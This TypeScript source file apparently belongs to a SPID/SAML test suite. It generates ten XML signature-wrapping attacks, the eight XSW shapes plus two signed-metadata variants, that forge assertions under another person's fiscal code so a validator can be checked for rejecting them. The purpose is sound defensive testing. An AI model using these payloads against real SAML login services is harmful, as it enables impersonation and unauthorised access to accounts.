// SPDX-License-Identifier: AGPL-3.0-or-later
import { aResponse } from '../builders/saml.js';
import { createRegisterEntity } from './signed-metadata.js';
import { signDraft, encode } from '../../simulators/spid-idp/response.js';
import type { Attack, AttackKeys } from './attack.js';

const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s;
const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;
const firstMatch = (pattern: RegExp, text: string): string => pattern.exec(text)?.[0] ?? '';
const withoutSignatures = (xml: string): string =>
  xml.replace(/<ds:Signature .*?<\/ds:Signature>/gs, '');
/** Another person, under another ID. */
const evil = (xml: string): string =>
  withoutSignatures(xml)
    .replaceAll('ALFA1234567890', 'ALFA0000000000')
    .replaceAll(/ ID="_/g, ' ID="_evil');

/** Signature wrapping in its eight classic shapes (Somorovsky et al. 2012), and by signed metadata. */
export function wrappingAttacks({ idp }: AttackKeys): readonly Attack[] {
  const whole = signDraft(aResponse(), { key: idp });
  const good = signDraft(aResponse(), { key: idp, response: false });
  const assertion = firstMatch(assertionPattern, good);
  const signature = firstMatch(signaturePattern, assertion);
  const bare = withoutSignatures(assertion);
  const inResponse = (text: string): string => good.replace(assertion, () => text);
  const wrap = (name: string, xml: string, rule = 'document.one_assertion'): Attack => ({
    name,
    rule,
    samlResponse: encode(xml),
  });
  const responseSignature = firstMatch(signaturePattern, whole);
  const signedResponse = whole.replace(responseSignature, '');
  const intoEvil = (content: string): string =>
    evil(whole).replace('<samlp:Status>', () => `${content}<samlp:Status>`);
  const closing = '</ds:Signature>';
  const holding = (text: string): string => signature.replace(closing, () => text + closing);
  const evilWith = (content: string): string =>
    evil(assertion).replace('<saml:Subject>', () => `${content}<saml:Subject>`);
  return [
    wrap(
      'XSW1: the signed Response inside the signature of an evil one',
      intoEvil(responseSignature.replace(closing, () => signedResponse + closing)),
    ),
    wrap(
      'XSW2: the signed Response beside its signature in an evil one',
      intoEvil(signedResponse + responseSignature),
    ),
    wrap('XSW3: an evil Assertion before the signed one', inResponse(evil(assertion) + assertion)),
    wrap('XSW4: the signed Assertion inside an evil one', inResponse(evilWith(assertion))),
    wrap(
      'XSW5: an evil Assertion with the signature, the signed one behind it',
      inResponse(evilWith(signature) + bare),
    ),
    wrap(
      'XSW6: the signed Assertion inside the signature of an evil one',
      inResponse(evilWith(holding(bare))),
    ),
    wrap(
      'XSW7: an evil Assertion in Extensions',
      inResponse(`<samlp:Extensions>${evil(assertion)}</samlp:Extensions>${assertion}`),
    ),
    wrap(
      'XSW8: the signed Assertion in an Object of the signature',
      inResponse(evilWith(holding(`<ds:Object>${bare}</ds:Object>`))),
    ),
    wrap(
      'signed metadata in front of an unsigned Assertion',
      inResponse(evil(assertion)).replace(
        '<samlp:Status>',
        () => `${createRegisterEntity(idp)}<samlp:Status>`,
      ),
      'signature.misplaced',
    ),
    wrap(
      'signed metadata in front of an Assertion whose signature is broken',
      inResponse(assertion.replace('Giulia', 'Mallory')).replace(
        '<samlp:Status>',
        () => `${createRegisterEntity(idp)}<samlp:Status>`,
      ),
      'signature.misplaced',
    ),
  ];
}
